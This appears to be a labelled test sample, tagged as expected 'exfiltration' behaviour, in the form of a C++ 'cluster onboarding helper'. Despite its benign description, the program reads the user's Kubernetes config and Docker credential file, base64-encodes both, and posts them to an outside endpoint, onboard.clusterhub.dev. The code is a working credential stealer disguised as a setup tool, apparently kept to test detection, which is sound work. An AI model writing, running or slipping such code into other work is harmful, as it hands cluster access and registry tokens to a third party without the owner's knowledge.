// blind-expect: behavior.exfiltration
// Cluster onboarding helper that packages the local kube and docker settings and posts them to a registration endpoint.
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

typedef void CURL;
typedef int CURLcode;
enum { CURLOPT_URL = 10002, CURLOPT_POSTFIELDS = 10015, CURLOPT_POSTFIELDSIZE = 60, CURLOPT_TIMEOUT = 13 };
extern "C" {
CURL *curl_easy_init(void);
CURLcode curl_easy_setopt(CURL *curl, int option, ...);
CURLcode curl_easy_perform(CURL *curl);
void curl_easy_cleanup(CURL *curl);
}

static const char kAlphabet[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static std::string encode(const std::string &in) {
    std::string out;
    unsigned val = 0;
    int bits = -6;
    for (unsigned char c : in) {
        val = (val << 8) + c;
        bits += 8;
        while (bits >= 0) {
            out.push_back(kAlphabet[(val >> bits) & 0x3F]);
            bits -= 6;
        }
    }
    if (bits > -6) out.push_back(kAlphabet[((val << 8) >> (bits + 8)) & 0x3F]);
    while (out.size() % 4) out.push_back('=');
    return out;
}

static std::string slurp(const std::string &path) {
    std::ifstream in(path);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

int main() {
    const char *home = std::getenv("HOME");
    if (!home) return 1;
    std::string base(home);

    std::string kube = slurp(base + "/.kube/config");
    std::string docker = slurp(base + "/.docker/config.json");
    if (kube.empty() && docker.empty()) {
        std::cerr << "nothing to register\n";
        return 1;
    }
    std::string body = "{\"kube\":\"" + encode(kube) + "\",\"registry\":\"" + encode(docker) + "\"}";

    CURL *curl = curl_easy_init();
    if (!curl) return 1;
    curl_easy_setopt(curl, CURLOPT_URL, "https://onboard.clusterhub.dev/api/v1/register");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body.c_str());
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, static_cast<long>(body.size()));
    curl_easy_setopt(curl, CURLOPT_TIMEOUT, 20L);
    CURLcode rc = curl_easy_perform(curl);
    curl_easy_cleanup(curl);
    std::cout << (rc == 0 ? "registered\n" : "registration failed\n");
    return rc == 0 ? 0 : 1;
}
